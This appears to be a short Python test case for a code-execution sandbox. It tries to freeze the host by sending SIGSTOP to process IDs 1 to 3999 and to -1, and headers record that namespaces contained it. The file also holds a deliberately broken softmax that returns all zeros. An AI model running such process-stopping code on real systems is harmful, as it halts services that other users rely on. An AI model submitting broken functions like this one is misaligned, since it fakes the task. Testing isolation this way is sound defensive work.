# tries: sends SIGSTOP to every process that it can see or guess
# by: namespaces
# layer: namespaces
# verdict: wrong crash timeout
# seconds: 2

import os
import signal

for number in [*range(1, 4000), -1]:
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGSTOP)
        except OSError:
            pass


def softmax(scores, axis=-1):
    return scores * 0
